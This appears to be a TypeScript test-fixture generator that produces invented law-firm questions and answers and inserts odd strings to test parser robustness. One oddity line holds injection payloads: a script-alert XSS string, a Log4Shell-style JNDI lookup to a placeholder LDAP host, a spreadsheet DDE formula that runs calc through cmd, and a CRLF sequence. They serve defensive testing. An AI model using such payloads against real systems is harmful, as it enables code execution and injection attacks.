// Invented law-firm prose for questions and answers; some texts break careless readers.
import type { Random } from '../core/clock.ts'
import { below, listOf, pick } from './random.ts'

const parties = listOf('Alder Holdings; Birch & Sons; Cedar Energy; Dogwood Foods; Elm Logistics; the seller')
const clauses = listOf(`
  the change of control clause; the liability cap in clause 14.2; the notice period;
  the assignment clause; the indemnity for tax; Schedule 3 (Warranties)
`)
const laws = ['English law', 'German law', 'the law of New York', 'Swiss law', 'the rules of the ICC']

const questions: readonly ((random: Random) => string)[] = [
  (random) => `Summarise ${pick(random, clauses)} in the agreement with ${pick(random, parties)}.`,
  (random) => `Does ${pick(random, clauses)} survive termination under ${pick(random, laws)}?`,
  (random) =>
    `Draft a reply to ${pick(random, parties)}: we accept the price, but not ${pick(random, clauses)}.`,
  (random) =>
    `Compare the attached draft with our precedent; list each departure from ${pick(random, clauses)}.`,
  (random) =>
    `Which documents of ${pick(random, parties)} mention ${pick(random, clauses)}? Give page and line.`,
  (random) =>
    `Translate the letter of ${below(random, 28) + 1} March to ${pick(random, parties)} into plain words.`,
]

const sentences: readonly ((random: Random) => string)[] = [
  (random) =>
    `Under ${pick(random, laws)}, ${pick(random, clauses)} binds ${pick(random, parties)} from signing.`,
  (random) =>
    `Clause ${below(random, 30) + 1}.${below(random, 9) + 1} says so in terms, and nothing in the schedules departs from it.`,
  (random) => `${pick(random, parties)} may terminate on ${below(random, 12) + 1} months’ notice.`,
  () =>
    'Two drafts disagree; the later one prevails, as the recitals say “this agreement supersedes all others”.',
  (random) => `The amount at stake is EUR ${below(random, 900) + 100},${below(random, 900) + 100}.00.`,
  () => 'A court would read the sentence against the party that wrote it (contra proferentem).',
  (random) =>
    `We did not find consent of ${pick(random, parties)} in the data room; ask for it before closing.`,
  () => 'The point is open; see the cases cited below.',
]

/** Legal, but careless readers break. */
const oddities: readonly string[] = [
  'The client wrote: "Path is C:\\deals\\final\\", then a tab\tand a line\r\nbreak.',
  'مرحبا، هذا العقد باطل ‏(RTL) and back ‎(LTR).',
  'Žluťoučký kůň 法務部 契約書 🦀👩‍⚖️⚖️ — ﷽',
  '}],"events":[{"unique_usage_id":"not an event"},{"',
  'Lone \ud800 surrogate, separators \u2028 and \u2029, a NUL \u0000 and a bell \u0007.',
  '<script>alert("1")</script> ${jndi:ldap://x.invalid/a} =cmd|\' /C calc\'!A0 %0d%0a',
  'data: [DONE]\n\ndata: {"response":"not a chunk"}\n\n',
]

export function question(random: Random): string {
  const asked = pick(random, questions)(random)
  return random() < 0.2 ? `${asked}\n\n${pick(random, questions)(random)}` : asked
}

function paragraph(random: Random): string {
  return Array.from({ length: 2 + below(random, 5) }, () => pick(random, sentences)(random)).join(' ')
}

/** Usually some paragraphs; one in 25 has 10 to 60 kB. */
export function answer(random: Random): string {
  const bytes = random() < 0.04 ? 10_000 + below(random, 50_000) : 200 + below(random, 2_000)
  let text = paragraph(random)
  while (text.length < bytes) text += `\n\n${paragraph(random)}`
  return text
}

/** The text with an oddity inserted. */
export function withOddity(text: string, random: Random): string {
  const at = text.indexOf(' ', below(random, text.length))
  const place = at < 0 ? text.length : at
  return `${text.slice(0, place)} ${pick(random, oddities)}${text.slice(place)}`
}

/** `text` as a JSON string with all non-ASCII escaped. */
export function escaped(text: string): string {
  return JSON.stringify(text).replace(
    /[^\x20-\x7e]/g,
    (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`,
  )
}

export const SLICE_BYTES = 65_536
const SLICES = 16
let padding: Buffer | undefined

/** `bytes` of prose for a JSON string, in slices of one buffer: no size costs memory. */
export function* filling(bytes: number, seed: number): Generator<Buffer, void> {
  padding ??= Buffer.alloc(
    SLICES * SLICE_BYTES,
    ' The parties agree that each of them bears its own costs, that notices are given in writing, and that no waiver is to be read into silence.',
  )
  for (let left = bytes, number = seed; left > 0; left -= SLICE_BYTES, number++) {
    const at = (number % SLICES) * SLICE_BYTES
    yield padding.subarray(at, at + Math.min(left, SLICE_BYTES))
  }
}
